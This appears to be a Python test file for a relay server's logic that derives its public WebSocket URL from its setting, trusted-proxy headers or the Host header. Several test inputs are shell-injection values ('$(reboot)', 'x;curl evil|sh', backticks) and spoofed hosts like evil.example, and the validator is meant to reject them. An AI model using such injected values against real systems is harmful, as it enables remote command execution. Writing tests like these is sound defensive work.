"""Under which URL a visitor knows the relay: by the setting, by a trusted proxy, or by the host they asked for."""

from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from relay.http.hub import RunningRelay
from relay.http.origin import proven, shown
from relay.server.limits.origin import base_url, forwarded, of_host, public_url
from tests.http.hubs import FakeHub, config

PROXIED = {"trusted_proxies": ["10.0.0.0/8"]}
RFC7239 = PROXIED | {"address_header": "forwarded"}


def told(peer: str = "10.0.0.1", server: dict[str, Any] | None = None, url: str = "", **headers: str) -> str | None:
    """What the headers (underscores for hyphens) of this peer say; several values of one stand with a line between."""
    given = {name.replace("_", "-"): text.split("\n") for name, text in headers.items()}
    settings = config(relay={"url": url}, server=PROXIED if server is None else server)
    return public_url(settings, peer, lambda name: given.get(name, []))


def test_the_setting_stands_whatever_anybody_says() -> None:
    url = "wss://relay.example"
    assert told(url=url, x_forwarded_proto="https", x_forwarded_host="evil.example") == url
    assert told("203.0.113.1", url=url) == url


@pytest.mark.parametrize(
    ("headers", "url"),
    [
        ({"x_forwarded_proto": "https", "x_forwarded_host": "relay.example"}, "wss://relay.example"),
        ({"x_forwarded_proto": "https", "x_forwarded_host": "Relay.Example:443"}, "wss://relay.example"),
        ({"x_forwarded_proto": "http", "x_forwarded_host": "relay.example:8080"}, "ws://relay.example:8080"),
        ({"x_forwarded_proto": "https", "host": "relay.example"}, "wss://relay.example"),
        ({"x_forwarded_proto": "HTTPS", "x_forwarded_host": "[2001:db8::1]:8443"}, "wss://[2001:db8::1]:8443"),
        (
            {"x_forwarded_proto": "http, https", "x_forwarded_host": "evil.example, relay.example"},
            "wss://relay.example",
        ),
        (
            {"x_forwarded_proto": "http\nhttps", "x_forwarded_host": "evil.example\nrelay.example"},
            "wss://relay.example",
        ),
        ({"forwarded": "proto=https;host=evil.example", "host": "10.0.0.9"}, None),
        ({"x_forwarded_host": "relay.example"}, None),
        ({"x_forwarded_proto": "gopher", "x_forwarded_host": "relay.example"}, None),
        ({"x_forwarded_proto": "https", "x_forwarded_host": "user@relay.example"}, None),
        ({"x_forwarded_proto": "https", "x_forwarded_host": "relay.example/path"}, None),
        ({"x_forwarded_proto": "https", "x_forwarded_host": "evil.example\\@relay.example"}, None),
        ({"x_forwarded_proto": "https", "x_forwarded_host": "$(reboot)"}, None),
        ({"x_forwarded_proto": "https", "x_forwarded_host": "a b"}, None),
        ({}, None),
    ],
)
def test_a_trusted_proxy_says_scheme_and_host_and_the_nearest_one_is_heard(
    headers: dict[str, str], url: str | None
) -> None:
    assert told(**headers) == url
    assert told("203.0.113.1", **headers) is None
    assert told(server={}, **headers) is None


@pytest.mark.parametrize(
    ("value", "url"),
    [
        ("for=192.0.2.1;proto=https;host=relay.example", "wss://relay.example"),
        ('For="[2001:db8::1]:99"; Proto=HTTPS; Host="relay.example:8443"', "wss://relay.example:8443"),
        ("proto=http;host=evil.example, for=192.0.2.1;proto=https;host=relay.example", "wss://relay.example"),
        ('for="a,b;host=evil.example";proto=https;host=relay.example', "wss://relay.example"),
        ("for=192.0.2.1;proto=https", "wss://fallback.example"),
        ("for=192.0.2.1;host=relay.example", None),
        ("", None),
    ],
)
def test_the_header_of_rfc_7239_is_read_where_that_is_the_configured_one(value: str, url: str | None) -> None:
    assert told(server=RFC7239, forwarded=value, host="fallback.example") == url
    assert told(server=RFC7239, x_forwarded_proto="https", x_forwarded_host="evil.example") is None


TOKEN = st.text(st.sampled_from("abcXYZ019.-_"), min_size=1, max_size=8)
PAIRS = st.dictionaries(
    st.sampled_from(("for", "by", "host", "proto")), st.text(st.sampled_from('ab;,="\\\\ .:[]'), max_size=8)
)


def written(pairs: dict[str, str]) -> str:
    """One element of a Forwarded header, every value as a quoted string (RFC 9110)."""
    quoted = {name: text.replace("\\", "\\\\").replace('"', '\\"') for name, text in pairs.items()}
    return ";".join(f'{name}="{text}"' for name, text in quoted.items())


@given(st.lists(PAIRS.filter(bool), min_size=1, max_size=4), st.sampled_from((",", ", ", " , ")))
def test_whatever_stands_in_quotes_the_last_element_is_read(elements: list[dict[str, str]], between: str) -> None:
    assert forwarded(between.join(map(written, elements))) == elements[-1]


@given(PAIRS.filter(bool), st.dictionaries(st.sampled_from(("host", "proto")), TOKEN, min_size=1))
def test_tokens_need_no_quotes(before: dict[str, str], pairs: dict[str, str]) -> None:
    last = ";".join(f"{name.upper()}={text}" for name, text in pairs.items())
    assert forwarded(f"{written(before)},{last}") == pairs


@given(st.text(st.sampled_from('ab;,="\\ for'), max_size=40))
def test_no_header_breaks_the_reading(text: str) -> None:
    forwarded(text)


@pytest.mark.parametrize(
    ("host", "url"),
    [
        ("relay.example", "ws://relay.example"),
        ("relay.example:8443", "ws://relay.example:8443"),
        ("[::1]:7447", "ws://[::1]:7447"),
        *((bad, None) for bad in ("", "a b", "$(reboot)", "x;curl evil|sh", "h/x", "a@b", "x`y`", "a'b", "a?b", "a/b")),
    ],
)
def test_a_host_has_nothing_that_a_shell_knows(host: str, url: str | None) -> None:
    assert of_host("ws", host) == url


class Visit:
    """A request without a server."""

    def __init__(self, peer: str, host: str) -> None:
        self.client = type("Client", (), {"host": peer})()
        self.headers = Headers({"host": host})


class Headers(dict[str, str]):
    def getall(self, name: str, default: list[str]) -> list[str]:
        return [self[name]] if name in self else default


def test_who_comes_by_no_proxy_is_shown_the_host_they_asked_for_but_proves_for_our_own() -> None:
    hub: Any = FakeHub(config())
    hub.identities = type("Identities", (), {"relay_url": "ws://127.0.0.1:7447"})()
    given: RunningRelay = hub
    visit: Any = Visit("203.0.113.1", "evil.example")
    assert shown(visit, given) == "ws://evil.example"
    assert proven(visit, given) == "ws://127.0.0.1:7447"
    nowhere: Any = Visit("203.0.113.1", "$(reboot)")
    assert shown(nowhere, given) == "ws://127.0.0.1:7447"


@pytest.mark.parametrize(
    ("url", "base"),
    [
        ("ws://r.example:1", "http://r.example:1"),
        ("wss://ws.example/", "https://ws.example"),
        ("wss://r.example/path", "https://r.example"),
    ],
)
def test_http_is_answered_where_the_websocket_is(url: str, base: str) -> None:
    assert base_url(url) == base
